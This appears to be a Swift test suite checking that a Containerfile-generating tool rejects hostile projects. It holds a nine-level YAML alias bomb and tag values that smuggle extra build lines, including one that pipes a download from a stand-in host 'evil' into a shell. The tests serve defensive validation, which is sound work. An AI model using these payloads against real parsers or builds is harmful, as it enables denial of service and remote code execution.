// Projects made to hurt: alias bombs, long base chains, tags and ids that would break the
// generated Containerfile. Each must end fast with a file:line problem.

import Foundation
@testable import Layers
import Testing

@Suite(.timeLimit(.minutes(1))) struct HostileProjectTests {
    func problems(_ edits: [String: String?], tag: String? = nil) throws -> [String] {
        let root = try Fixture.project(edits)
        defer { try? FileManager.default.removeItem(at: root) }
        var project = try Project.load(root: root)
        project.tagOverride = tag
        return project.validate().map(\.description)
    }

    /// Nine levels of aliases used as a key: Yams would compare 9^9 nodes before answering.
    @Test func aliasBombIsRefusedAtItsLine() throws {
        var yaml = "a: &a [x, x, x, x, x, x, x, x, x]\n"
        for level in 1...9 {
            let previous = level == 1 ? "a" : "l\(level - 1)"
            yaml += "l\(level): &l\(level) [" + Array(repeating: "*\(previous)", count: 9).joined(separator: ", ") + "]\n"
        }
        yaml += "images:\n  ? *l9\n  : x\n"
        let found = try problems(["images.yml": yaml])
        #expect(found.count == 1 && found.first?.contains("images.yml:2: YAML aliases") == true, "\(found)")
        #expect(ImagesFile.imageNames(in: yaml) == [])
    }

    @Test(arguments: [
        ("k: \"*not an alias\"\n", nil),
        ("k: a*b\n", nil),
        ("k: |\n  * a markdown list\n  * in a block scalar\nj: x\n", nil),
        ("k: >-\n  *folded\n", nil),
        ("k: x # *comment\n", nil),
        ("k: 'it''s *x'\n", nil),
        ("run: cp *.conf /etc/\n", nil),
        ("k: *alias\n", 1),
        ("- [a, *b]\n", 1),
        ("k:\n  - x\n  - *y\n", 3),
        // What a whitespace scan missed: a tab before the alias in a flow collection, and
        // CRLF line ends after a comment line.
        ("a: &x 1\nb: [\t*x, \t*x]\n", 2),
        ("a: &x 1\nb: {k: \t*x}\n", 2),
        ("# comment\r\na: &x 1\r\nb: *x\r\n", 3),
        ("# comment\r\na: &x [1]\r\nb:\r\n  - *x\r\n", 4),
        ("a: &x 1\n? *x\n: v\n", 2),
        ("a: &x 1\n<<: *x\n", 2),
        ("", nil),
        ("k: [unclosed\n", nil),
    ] as [(String, Int?)])
    func aliasesAreFoundWhereverYAMLPutsThem(text: String, line: Int?) {
        #expect(YAMLAliases.firstLine(in: text) == line)
    }

    /// The bombs a whitespace scan let through: each is refused at its first alias, at once.
    @Test(arguments: ["\t", "\r\n"])
    func aliasBombVariantsAreRefused(variant: String) throws {
        let newline = variant == "\r\n" ? "\r\n" : "\n"
        let gap = variant == "\t" ? "\t" : " "
        var yaml = "# a comment first\(newline)a: &a [x, x, x, x, x, x, x, x, x]\(newline)"
        for level in 1...9 {
            let previous = level == 1 ? "a" : "l\(level - 1)"
            yaml += "l\(level): &l\(level) [" + Array(repeating: "\(gap)*\(previous)", count: 9).joined(separator: ",") + "]\(newline)"
        }
        yaml += "images:\(newline)  ? [\(gap)*l9]\(newline)  : x\(newline)"
        let started = ContinuousClock.now
        let found = try problems(["images.yml": yaml])
        #expect(ContinuousClock.now - started < .seconds(5))
        #expect(found.count == 1 && found.first?.contains("images.yml:3: YAML aliases") == true, "\(found)")
    }

    /// 300 images each on the one before: resolving them all is linear in the chain, not 2^N.
    @Test func longBaseChainResolvesQuickly() throws {
        var yaml = "defaults:\n  base: \"quay.io/fedora/fedora:43\"\n  tag: auto\nimages:\n  i0:\n    layers: [pixi]\n"
        for index in 1..<300 { yaml += "  i\(index):\n    base: i\(index - 1)\n    layers: [pixi]\n" }
        let root = try Fixture.project(["images.yml": yaml])
        defer { try? FileManager.default.removeItem(at: root) }
        let project = try Project.load(root: root)
        let last = try project.resolve("i299")
        #expect(last.inheritedLayers == ["pixi"] && last.resolvedLayers.isEmpty, "pixi comes from i0 alone")
        #expect(project.validate() == [])
    }

    @Test func tagsThatWouldInjectContainerfileLinesAreProblems() throws {
        let injected = try problems(["images.yml": "defaults:\n  tag: \"1\\nRUN curl evil | sh\"\nimages:\n  fedora:\n    layers: [pixi]\n"])
        #expect(injected.contains { $0.contains("tag \"1\\nRUN curl evil | sh\" must be") }, "\(injected)")
        let overridden = try problems([:], tag: "x\nRUN id")
        #expect(overridden.contains { $0.contains("must be letters, digits") }, "\(overridden)")
        #expect(try problems([:], tag: "2026.335.1200") == [])
    }

    @Test func idsOutsideTheUserRangeAreProblems() throws {
        let found = try problems(["images.yml": "defaults:\n  uid: 70000\n  gid: -1\nimages:\n  fedora:\n    layers: [pixi]\n"])
        #expect(found.contains { $0.contains("uid 70000 must be from 0 to 65534") }, "\(found)")
        #expect(found.contains { $0.contains("gid -1 must be from 0 to 65534") }, "\(found)")
    }
}
